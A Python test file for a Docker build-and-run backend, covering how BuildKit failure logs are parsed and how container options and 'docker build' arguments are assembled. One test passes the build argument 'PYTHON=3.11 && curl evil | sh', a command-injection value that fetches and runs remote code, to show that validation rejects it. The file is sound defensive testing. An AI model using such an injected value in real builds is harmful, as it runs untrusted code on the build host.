"""docker.commands: a suite container's SDK options, the `docker build` argument list, reading BuildKit's output."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from stackfarm.backends.docker import DockerError
from stackfarm.backends.docker.commands import (
    ContainerSpec,
    Mount,
    build_argv,
    create_options,
    failure_text,
    parse_build_failure,
    parse_loaded_image,
)
from stackfarm.backends.docker.common import LABEL_CELL, LABEL_RUN
from test_docker_support import CELL

# -- reading the engine's output -----------------------------------------------------------------------------

# Plain progress of a failed RUN, as BuildKit inside docker 20.10 prints it (trimmed from a real build).
BUILDKIT_20_10 = """\
#4 [1/2] FROM docker.io/library/stackfarm-base:bookworm
#4 sha256:74ca8695aea015339b00ef62a6f2609a16f4386bd07fb0cd2598bcf4159d4ea7
#4 CACHED

#5 [torch 1/1] RUN python -m pip install --no-deps --require-hashes -r /tmp/stackfarm/torch/requirements.txt
#5 sha256:3bcac932073e9ec4d072511126f78f97ca6e7fa0ef61590502edd53208687d26
#5 0.615 Collecting torch@ https://files.pythonhosted.org/torch-2.9.1.whl
#5 0.243 ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.
#5 0.243     torch@ https://files.pythonhosted.org/torch-2.9.1.whl:
#5 ERROR: executor failed running [/bin/sh -c python -m pip install]: exit code: 1
------
 > [torch 1/1] RUN python -m pip install --no-deps --require-hashes -r /tmp/stackfarm/torch/requirements.txt:
------
executor failed running [/bin/sh -c python -m pip install]: exit code: 1
"""

# The same failure as newer BuildKit (buildx) prints it: the step's lines repeated without the "#N" prefix.
BUILDKIT_BUILDX = """\
#7 [kernels 1/1] RUN python -m pip install -r /tmp/stackfarm/kernels/requirements.txt
#7 1.20 Collecting sgl-kernel@ https://files.pythonhosted.org/sgl_kernel.whl
#7 9.80 OSError: [Errno 28] No space left on device
#7 ERROR: process "/bin/sh -c python -m pip install" did not complete successfully: exit code: 1
------
 > [kernels 1/1] RUN python -m pip install -r /tmp/stackfarm/kernels/requirements.txt:
9.80 OSError: [Errno 28] No space left on device
------
ERROR: failed to solve: process "/bin/sh -c python -m pip install" did not complete successfully: exit code: 1
"""


# A first build with a registry: --cache-from names a manifest the registry does not have yet (BuildKit says
# ERROR for it, then carries on), and a later RUN fails compiling. Recorded from docker 20.10.24's BuildKit.
BUILDKIT_CACHE_MISS = """\
#3 [internal] load metadata for docker.io/library/stackfarm-base:bookworm
#3 sha256:78a72df17e816d091126f0fe8099994c1b4a140755c6e0840383c9b16272d7f6
#3 DONE 0.0s

#7 importing cache manifest from 127.0.0.1:5000/stackfarm-test/cell:latest
#7 sha256:a6f62bbad24920c92fb24ad4f92d888bd32acb74a23874c25b62b35b82af1dea
#7 ERROR: 127.0.0.1:5000/stackfarm-test/cell:latest: not found

#4 [1/3] FROM docker.io/library/stackfarm-base:bookworm
#4 sha256:74ca8695aea015339b00ef62a6f2609a16f4386bd07fb0cd2598bcf4159d4ea7
#4 CACHED

#5 [2/3] RUN echo "error handling: none needed" > /tmp/notes
#5 sha256:8d8effd196b866e8768c2cf1c78d80460d0da726b554e306e40eadbd99601bd7
#5 DONE 0.3s

#6 [3/3] RUN printf "def broken(:\\n" > /tmp/bad.py && echo compiling && python3 -m compileall -q /tmp/bad.py
#6 sha256:d54bade31a661159da321191500a973b55fc24cb2f85013ba4217cc3c416222a
#6 0.229 compiling
#6 0.276 *** Error compiling '/tmp/bad.py'...
#6 0.276   File "/tmp/bad.py", line 1
#6 0.276     def broken(:
#6 0.276                ^
#6 0.276 SyntaxError: invalid syntax
#6 0.276
#6 ERROR: executor failed running [/bin/sh -c printf "def broken(:\\n" > /tmp/bad.py && echo compiling && python3 -m compileall -q /tmp/bad.py]: exit code: 1
------
 > importing cache manifest from 127.0.0.1:5000/stackfarm-test/cell:latest:
------
------
 > [3/3] RUN printf "def broken(:\\n" > /tmp/bad.py && echo compiling && python3 -m compileall -q /tmp/bad.py:
------
executor failed running [/bin/sh -c printf "def broken(:\\n" > /tmp/bad.py && echo compiling && python3 -m compileall -q /tmp/bad.py]: exit code: 1
"""

# Two stages in parallel: one fails, BuildKit cancels the other. Recorded from docker 20.10.24's BuildKit.
BUILDKIT_CANCELED = """\
#4 importing cache manifest from 127.0.0.1:5000/nothere/cache:missing
#4 sha256:7bfa95a89ed2e16af157cc6433ac15bfae0ba887f35658a8d9818303a9f2f502
#4 ERROR: 127.0.0.1:5000/nothere/cache:missing: not found

#6 [a 2/2] RUN sleep 5 && echo a-done
#6 sha256:616039f83514cd82ec06f2393ca5f5971f32767d8affb101bd8593e4f5240713
#6 ...

#7 [b 2/2] RUN echo bad; exit 4
#7 sha256:9ab540a2b8c0bd0644ac0aa5e1bcb97c191eae9618ec393b6958e12516469ef3
#7 0.927 bad
#7 ERROR: executor failed running [/bin/sh -c echo bad; exit 4]: exit code: 4

#6 [a 2/2] RUN sleep 5 && echo a-done
#6 sha256:616039f83514cd82ec06f2393ca5f5971f32767d8affb101bd8593e4f5240713
#6 CANCELED
------
 > importing cache manifest from 127.0.0.1:5000/nothere/cache:missing:
------
------
 > [b 2/2] RUN echo bad; exit 4:
------
executor failed running [/bin/sh -c echo bad; exit 4]: exit code: 4
"""

# A COPY of a missing file: the step's error is the tail of the build's last line. Recorded from docker 20.10.24.
BUILDKIT_COPY = """\
#8 importing cache manifest from 127.0.0.1:5000/nothere/cache:missing
#8 sha256:7bfa95a89ed2e16af157cc6433ac15bfae0ba887f35658a8d9818303a9f2f502
#8 ERROR: 127.0.0.1:5000/nothere/cache:missing: not found

#7 [3/3] COPY nothere /x
#7 sha256:367b69194c59e542fa7ae1281aee98d9df2dfb1f7284b12beaad938dcec4e1ef
#7 ERROR: "/nothere" not found: not found
------
 > importing cache manifest from 127.0.0.1:5000/nothere/cache:missing:
------
------
 > [3/3] COPY nothere /x:
------
failed to compute cache key: "/nothere" not found: not found
"""

# The same cache miss as newer BuildKit (buildx) words it, with the Dockerfile excerpt and a warning after the
# final error. (Its shape, from buildx's plain progress: this machine's docker has no buildx to record it.)
BUILDX_CACHE_MISS = """\
#2 importing cache manifest from registry.example.org/stackfarm/cell:latest
#2 ERROR: failed to configure registry cache importer: registry.example.org/stackfarm/cell:latest: not found

#9 [patched 1/1] RUN cp -R /tmp/stackfarm/patch/files/. . && python -m compileall -q sglang
#9 0.412 *** Error compiling 'sglang/srt/server_args.py'...
#9 0.413 SyntaxError: invalid syntax
#9 ERROR: process "/bin/sh -c cp -R /tmp/stackfarm/patch/files/. . && python -m compileall -q sglang" did not complete successfully: exit code: 1
------
 > importing cache manifest from registry.example.org/stackfarm/cell:latest:
------
------
 > [patched 1/1] RUN cp -R /tmp/stackfarm/patch/files/. . && python -m compileall -q sglang:
0.412 *** Error compiling 'sglang/srt/server_args.py'...
0.413 SyntaxError: invalid syntax
------
Dockerfile:82
--------------------
  81 |     WORKDIR ${SITE}
  82 | >>> RUN cp -R /tmp/stackfarm/patch/files/. . && python -m compileall -q sglang
--------------------
ERROR: failed to solve: process "/bin/sh -c cp -R /tmp/stackfarm/patch/files/. . && python -m compileall -q sglang" did not complete successfully: exit code: 1

1 warning found (use docker --debug to expand):
 - InvalidDefaultArgInFrom: Default value for ARG ${BASE} results in empty or invalid base image name
"""


@pytest.mark.parametrize("output", [BUILDKIT_CACHE_MISS, BUILDX_CACHE_MISS])
def test_a_cache_import_miss_is_never_the_failing_step(output: str) -> None:
    failure = parse_build_failure(output)
    assert "] RUN " in failure.step, failure
    assert "compileall" in failure.step
    assert "importing cache manifest" not in failure.step
    assert failure.reason.endswith("exit code: 1")
    assert "not found" not in failure.reason
    assert failure.error_line.startswith("*** Error compiling '")
    assert failure.tail[-1] == "SyntaxError: invalid syntax"
    text = failure_text("stackfarm/cell:1", failure, Path("/r/docker-build.log"))
    first, *rest = text.splitlines()
    assert first.startswith("building stackfarm/cell:1 failed at [")
    assert first.endswith(
        f"compileall -q {'/tmp/bad.py' if output is BUILDKIT_CACHE_MISS else 'sglang'}: {failure.error_line}"
    )
    assert "cache manifest" not in text
    assert rest[-1] == "  log: /r/docker-build.log"


def test_a_step_cancelled_because_another_failed_is_not_the_failing_step() -> None:
    failure = parse_build_failure(BUILDKIT_CANCELED)
    assert failure.step == "[b 2/2] RUN echo bad; exit 4"
    assert failure.reason == "executor failed running [/bin/sh -c echo bad; exit 4]: exit code: 4"
    assert failure.tail == ("bad",)
    assert failure.error_line == ""


def test_a_failed_copy_is_named_by_the_builds_last_line() -> None:
    failure = parse_build_failure(BUILDKIT_COPY)
    assert failure.step == "[3/3] COPY nothere /x"
    assert failure.reason == '"/nothere" not found: not found'


def test_build_failure_names_the_step_and_its_last_lines() -> None:
    failure = parse_build_failure(BUILDKIT_20_10)
    assert failure.step.startswith("[torch 1/1] RUN python -m pip install")
    assert failure.reason == "executor failed running [/bin/sh -c python -m pip install]: exit code: 1"
    assert failure.tail[-2:] == (
        "ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.",
        "    torch@ https://files.pythonhosted.org/torch-2.9.1.whl:",
    )
    assert not failure.disk_full


def test_build_failure_sees_a_full_disk() -> None:
    failure = parse_build_failure(BUILDKIT_BUILDX)
    assert failure.step.startswith("[kernels 1/1]")
    assert failure.tail[-1] == "OSError: [Errno 28] No space left on device"
    assert failure.disk_full


def test_build_failure_before_any_step_keeps_the_engine_message() -> None:
    failure = parse_build_failure("#1 [internal] load build definition\nERROR: failed to read dockerfile\n")
    assert failure.step == "(before any build step)"
    assert failure.reason == "ERROR: failed to read dockerfile"


def test_loaded_image_names() -> None:
    assert parse_loaded_image("Loaded image: stackfarm-base:bookworm\n") == "stackfarm-base:bookworm"
    assert parse_loaded_image("Loaded image ID: sha256:abc\n") == "sha256:abc"
    assert parse_loaded_image("nothing\n") is None


# -- command lines -------------------------------------------------------------------------------------------


def _run_spec(**changes: object) -> ContainerSpec:
    spec = ContainerSpec(
        image=f"stackfarm/{CELL}:0123456789abcdef",
        argv=("python", "-m", "pytest", "/stackfarm/project/suites/00-stack"),
        mounts=(Mount(source=Path("/work/main"), target="/stackfarm/project"),),
        env=(("STACKFARM_CELL", "/stackfarm/run/cell.json"),),
        ulimits=(("memlock", "-1"), ("stack", "67108864")),
        shm_size="16g",
    )
    return dataclasses.replace(spec, **changes)  # type: ignore[arg-type]


def test_cpu_run_gets_a_private_shm_and_no_gpu_flags() -> None:
    options = create_options(_run_spec(), "c1")
    assert options["name"] == "c1"
    assert "device_requests" not in options
    assert "ipc_mode" not in options
    assert "ulimits" not in options
    assert options["shm_size"] == "16g"
    assert options["mounts"] == [
        {"Type": "bind", "Source": "/work/main", "Target": "/stackfarm/project", "ReadOnly": True}
    ]
    assert options["image"] == f"stackfarm/{CELL}:0123456789abcdef"
    assert options["command"] == ["python", "-m", "pytest", "/stackfarm/project/suites/00-stack"]
    assert options["environment"] == ["STACKFARM_CELL=/stackfarm/run/cell.json"]
    assert options["labels"] == {LABEL_RUN: "c1"}


def test_gpu_run_gets_gpus_host_ipc_and_ulimits() -> None:
    options = create_options(_run_spec(gpus=True), "c1")
    assert options["device_requests"] == [{"count": -1, "capabilities": [["gpu"]]}]  # --gpus all
    assert options["ipc_mode"] == "host"
    assert "shm_size" not in options
    assert options["ulimits"] == [
        {"name": "memlock", "soft": -1, "hard": -1},
        {"name": "stack", "soft": 67108864, "hard": 67108864},
    ]
    private = create_options(_run_spec(gpus=True, ipc_host=False, ulimits=(("nofile", "1024:4096"),)), "c1")
    assert "ipc_mode" not in private
    assert private["shm_size"] == "16g"
    assert private["ulimits"] == [{"name": "nofile", "soft": 1024, "hard": 4096}]


def test_runs_are_never_privileged_and_never_see_the_engine() -> None:
    options = create_options(_run_spec(gpus=True, user="1000:1000"), "c1")
    assert "privileged" not in options
    assert not any("docker.sock" in str(v) for v in options.values())
    assert options["security_opt"] == ["no-new-privileges"]
    assert options["init"] is True
    assert options["user"] == "1000:1000"
    with pytest.raises(DockerError, match="absolute"):
        create_options(_run_spec(mounts=(Mount(source=Path("rel"), target="/x"),)), "c1")
    with pytest.raises(DockerError, match="uid"):
        create_options(_run_spec(user="root"), "c1")
    with pytest.raises(DockerError, match="not a valid image reference"):
        create_options(_run_spec(image="Bad Image"), "c1")


def test_the_options_are_what_the_sdk_accepts() -> None:
    """The real SDK turns the options into its create request (no engine needed): the HostConfig the engine
    gets holds the same mounts, GPUs, ulimits and security options."""
    pytest.importorskip("docker", reason="the Docker SDK for Python (a stackfarm dependency) is missing")
    from docker.models.containers import _create_container_args  # type: ignore[attr-defined]

    options = create_options(_run_spec(gpus=True, network="none"), "c1")
    options.pop("detach")
    args = _create_container_args({**options, "version": "1.41"})
    host = args["host_config"]
    assert host["Mounts"][0]["Source"] == "/work/main"
    assert host["Mounts"][0]["ReadOnly"] is True
    assert host["DeviceRequests"][0]["Capabilities"] == [["gpu"]]
    assert host["DeviceRequests"][0]["Count"] == -1
    assert host["Ulimits"][0] == {"Name": "memlock", "Soft": -1, "Hard": -1}
    assert host["SecurityOpt"] == ["no-new-privileges"]
    assert host["Init"] is True
    assert host["IpcMode"] == "host"
    assert host["NetworkMode"] == "none"
    assert args["labels"][LABEL_RUN] == "c1"


def test_build_command_is_a_list_with_validated_args_and_secrets() -> None:
    argv = build_argv(
        "docker",
        dockerfile=Path("/r/docker/Dockerfile"),
        context=Path("/c"),
        tag=f"stackfarm/{CELL}:0123456789abcdef",
        build_args={"BASE": "stackfarm-base:bookworm", "PYTHON": "3.11"},
        labels={LABEL_CELL: CELL},
        secrets={"netrc": Path("/home/u/.netrc")},
    )
    assert argv[:3] == ["docker", "build", "--progress=plain"]
    assert argv[argv.index("PYTHON=3.11") - 1 : argv.index("PYTHON=3.11") + 1] == [
        "--build-arg",
        "PYTHON=3.11",
    ]
    assert "id=netrc,src=/home/u/.netrc" in argv
    assert argv[-1] == "/c"
    assert not any("token" in a or "password" in a.lower() for a in argv)
    # Every image carries BuildKit's inline cache metadata, so a pushed one can be another runner's cache.
    assert "BUILDKIT_INLINE_CACHE=1" in argv
    assert "--cache-from" not in argv
    cached = build_argv(
        "docker",
        dockerfile=Path("/d"),
        context=Path("/c"),
        tag="t:1",
        build_args={},
        labels={},
        cache_from=("127.0.0.1:5000/stackfarm/cell:latest",),
    )
    assert cached[cached.index("--cache-from") + 1] == "127.0.0.1:5000/stackfarm/cell:latest"
    with pytest.raises(DockerError):
        build_argv(
            "docker",
            dockerfile=Path("/d"),
            context=Path("/c"),
            tag="t:1",
            build_args={},
            labels={},
            cache_from=("not a ref",),
        )
    with pytest.raises(DockerError):
        build_argv(
            "docker",
            dockerfile=Path("/d"),
            context=Path("/c"),
            tag="t:1",
            build_args={"PYTHON": "3.11 && curl evil | sh"},
            labels={},
        )
